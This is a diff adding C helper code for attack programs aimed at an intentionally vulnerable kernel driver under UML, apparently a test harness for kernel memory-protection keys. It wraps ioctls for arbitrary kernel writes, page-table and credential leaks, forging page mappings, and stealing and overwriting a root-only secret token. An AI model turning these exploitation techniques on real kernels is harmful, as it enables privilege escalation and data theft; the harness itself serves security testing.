@@ -1,0 +1,202 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/* Helpers of the attack programs: the vulnerable driver and the prize. */
+#define _GNU_SOURCE
+#include <errno.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/uio.h>
+#include <unistd.h>
+
+#include "common.h"
+
+void die(const char *what)
+{
+	fprintf(stderr, "%s: %s\n", program_invocation_short_name, what);
+	exit(1);
+}
+
+void die_errno(const char *what)
+{
+	fprintf(stderr, "%s: %s: %s\n", program_invocation_short_name, what,
+		strerror(errno));
+	exit(1);
+}
+
+long page_size(void)
+{
+	return sysconf(_SC_PAGESIZE);
+}
+
+unsigned long parse_number(const char *text)
+{
+	unsigned long value;
+	char *end;
+
+	if (!text)
+		die("an argument is missing; run this through /bin/attack");
+	errno = 0;
+	value = strtoul(text, &end, 0);
+	if (errno || end == text || *end)
+		die("not a number; run this through /bin/attack");
+	return value;
+}
+
+static void vuln_ioctl(unsigned long cmd, void *arg, const char *what)
+{
+	if (ioctl(FD_VULN, cmd, arg) < 0)
+		die_errno(what);
+}
+
+const struct kpkeys_vuln_info *vuln_info(void)
+{
+	static struct kpkeys_vuln_info info;
+
+	if (!info.addr)
+		vuln_ioctl(KPKEYS_VULN_INFO, &info, "asking for the layout");
+	return &info;
+}
+
+void vuln_write(u64 addr, u64 value)
+{
+	struct kpkeys_vuln_write w = { .addr = addr, .value = value };
+
+	vuln_ioctl(KPKEYS_VULN_WRITE, &w, "arbitrary write");
+}
+
+struct kpkeys_vuln_entry vuln_entry(int pid, const void *vaddr, int level)
+{
+	struct kpkeys_vuln_entry e = {
+		.vaddr = (uintptr_t)vaddr,
+		.pid = pid,
+		.level = level,
+	};
+
+	vuln_ioctl(KPKEYS_VULN_ENTRY, &e, "leaking a page-table entry");
+	return e;
+}
+
+u64 vuln_file_phys(const char *path)
+{
+	struct kpkeys_vuln_file f = { .path = (uintptr_t)path };
+
+	if (!path)
+		die("the file is missing; run this through /bin/attack");
+	vuln_ioctl(KPKEYS_VULN_FILE, &f, "leaking a page of the page cache");
+	return f.phys;
+}
+
+u64 vuln_cred(void)
+{
+	u64 addr;
+
+	vuln_ioctl(KPKEYS_VULN_CRED, &addr, "leaking the credentials");
+	return addr;
+}
+
+struct kpkeys_vuln_reg vuln_reg(int pid, int reg)
+{
+	struct kpkeys_vuln_reg r = { .pid = pid, .reg = reg };
+
+	vuln_ioctl(KPKEYS_VULN_REG, &r, "leaking a saved register");
+	return r;
+}
+
+void vuln_obj(unsigned long cmd, struct kpkeys_vuln_obj *obj)
+{
+	vuln_ioctl(cmd, obj, "using the driver's object");
+}
+
+void vuln_flush(void)
+{
+	vuln_ioctl(KPKEYS_VULN_FLUSH, NULL, "flushing a kernel mapping");
+}
+
+/* Returns whether the driver gave its secret to this user. */
+bool vuln_secret(struct kpkeys_vuln_secret *secret)
+{
+	return !ioctl(FD_VULN, KPKEYS_VULN_SECRET_GET, secret);
+}
+
+/* Reserve memory without touching it, at @where if that is given. */
+void *map_pages(void *where, size_t length)
+{
+	int flags = MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE;
+	void *p;
+
+	if (where)
+		flags |= MAP_FIXED_NOREPLACE;
+	p = mmap(where, length, PROT_READ | PROT_WRITE, flags, -1, 0);
+	if (p == MAP_FAILED)
+		die_errno("mmap");
+	return p;
+}
+
+/* The physical address of a page of this process, which must be touched. */
+u64 phys_of(void *page)
+{
+	return vuln_entry(KPKEYS_VULN_SELF, page, KPKEYS_VULN_PTE).value &
+		vuln_info()->addr;
+}
+
+/*
+ * Make the memory management unit look at everything between two pages.
+ *
+ * UML has no hardware that walks the tables: on the way back to user space it
+ * walks the range in which something changed, and maps what is marked. So
+ * have one system call fault in a page on each side. The kernel then marks
+ * the range itself, and nobody looks at what was forged in between.
+ */
+void sync_between(char *before, char *after)
+{
+	struct iovec iov[2] = {
+		{ .iov_base = before, .iov_len = 1 },
+		{ .iov_base = after, .iov_len = 1 },
+	};
+	int fds[2];
+
+	if (madvise(before, page_size(), MADV_DONTNEED) ||
+	    madvise(after, page_size(), MADV_DONTNEED))
+		die_errno("madvise");
+	if (pipe(fds) || write(fds[1], "ab", 2) != 2 ||
+	    readv(fds[0], iov, 2) != 2)
+		die_errno("reading into two pages");
+	close(fds[0]);
+	close(fds[1]);
+}
+
+bool is_token(const char *text)
+{
+	size_t i;
+
+	for (i = 0; i < TOKEN_LEN; i++)
+		if (!text[i] || !strchr("0123456789abcdef", text[i]))
+			return false;
+	return true;
+}
+
+void report_loot(const char *token)
+{
+	if (write(FD_LOOT, token, TOKEN_LEN) != TOKEN_LEN)
+		die_errno("reporting the loot");
+}
+
+/* Through a mapping of a root-only file: read its secret and overwrite it. */
+void steal_and_alter(char *secret)
+{
+	if (!is_token(secret))
+		die("the secret did not appear: the forged entry has no effect");
+	report_loot(secret);
+	memcpy(secret, ALTERED, strlen(ALTERED));
+}
+
+/* Send the root daemon a request; exit unless it answers with its secret. */
+void ask_daemon(char token[TOKEN_LEN])
+{
+	if (write(FD_REQUEST, "?", 1) != 1)
+		die_errno("asking the daemon");
+	if (read(FD_REPLY, token, TOKEN_LEN) != TOKEN_LEN || !is_token(token))
+		die("the daemon refused");
+}
